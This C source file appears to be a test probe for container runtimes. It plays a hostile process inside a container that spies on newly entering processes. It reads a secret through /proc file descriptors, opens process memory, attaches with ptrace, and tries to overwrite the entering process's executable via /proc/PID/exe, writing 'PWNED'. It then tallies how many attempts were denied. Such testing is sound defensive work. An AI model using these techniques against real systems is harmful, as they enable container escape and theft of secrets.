/* SPDX-License-Identifier: 0BSD
 *
 * spy look|overwrite STOP: what a hostile process in a container does to who enters.
 *
 * Waits for each new PID from its own on, and until that runs busybox, the
 * container's own program, tries all there is as often as it can.  Ends once
 * the file STOP exists, and prints what it got, each thing once, and counts.
 *
 *	look		exe, fd 9 and the file "file" in it, mem, ptrace(2)
 *	overwrite	holds exe, and writes to it once nobody runs it
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static unsigned seen, tries, denied, wrote, kept_out;

static void
got(const char *what)
{
	static char told[64][80];
	size_t i;

	for (i = 0; i < 64 && *told[i]; i++)
		if (!strcmp(told[i], what))
			return;
	if (i < 64)
		snprintf(told[i], sizeof(told[i]), "%s", what);
	printf("got %s\n", what);
}

static int
try(pid_t pid, const char *file, int flags)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, file);
	fd = open(path, flags | O_CLOEXEC);
	tries++;
	if (fd < 0 && (errno == EACCES || errno == EPERM))
		denied++;
	return fd;
}

/* Its exe's name; NULL when it is not to be had. */
static const char *
exe_of(pid_t pid)
{
	static char name[PATH_MAX];
	char path[64];
	ssize_t len;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	len = readlink(path, name, sizeof(name) - 1);
	tries++;
	if (len < 0) {
		denied += errno == EACCES || errno == EPERM;
		return NULL;
	}
	name[len] = '\0';
	return name;
}

static int
is_inside(const char *exe)
{
	return exe && strstr(exe, "busybox");
}

/* Stopped, it cannot become another program meanwhile. */
static void
trace(pid_t pid)
{
	int status;

	tries++;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0)) {
		denied += errno == EPERM;
		return;
	}
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
		const char *exe = exe_of(pid);

		if (exe && !is_inside(exe))
			got("ptrace");
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

static void
look(pid_t pid)
{
	char text[64] = "secret: ";
	int fd = try(pid, "fd/9/file", O_RDONLY);
	ssize_t len;

	if (fd >= 0 && (len = read(fd, text + 8, sizeof(text) - 9)) > 0) {
		text[strcspn(text, "\n")] = '\0';
		got(text);
	}
	close(fd);
	fd = try(pid, "mem", O_RDWR);
	if (fd >= 0 && !is_inside(exe_of(pid)))
		got("mem");
	close(fd);
	trace(pid);
}

static void
overwrite(pid_t pid)
{
	char path[64];
	int held = try(pid, "exe", O_PATH), fd = -1, i;

	if (held < 0)
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	for (i = 0; i < 100000 && fd < 0; i++) {
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0 && errno != ETXTBSY)
			break;
	}
	if (fd >= 0 && write(fd, "PWNED\n", 6) == 6)
		wrote++;
	else
		kept_out++;
	close(fd);
	close(held);
}

int
main(int argc, char **argv)
{
	int writes = argc == 3 && !strcmp(argv[1], "overwrite");
	pid_t last = getpid(), pid;

	if (argc != 3)
		return 2;
	puts("up");
	fflush(stdout);
	while (access(argv[2], F_OK)) {
		for (pid = last + 1; pid < last + 64; pid++) {
			int first = 1;

			while (!kill(pid, 0)) {
				const char *exe = exe_of(pid);

				seen += first;
				first = 0;
				if (is_inside(exe))
					break;
				if (exe) {
					char what[80];

					snprintf(what, sizeof(what), "exe %.60s", exe);
					got(what);
				}
				if (writes && exe)
					overwrite(pid);
				else if (!writes)
					look(pid);
				last = pid;
			}
			if (!first)
				last = pid;
		}
	}
	printf("seen %u\ntries %u\ndenied %u\nwrote %u\nkept_out %u\n", seen, tries, denied, wrote, kept_out);
	return 0;
}
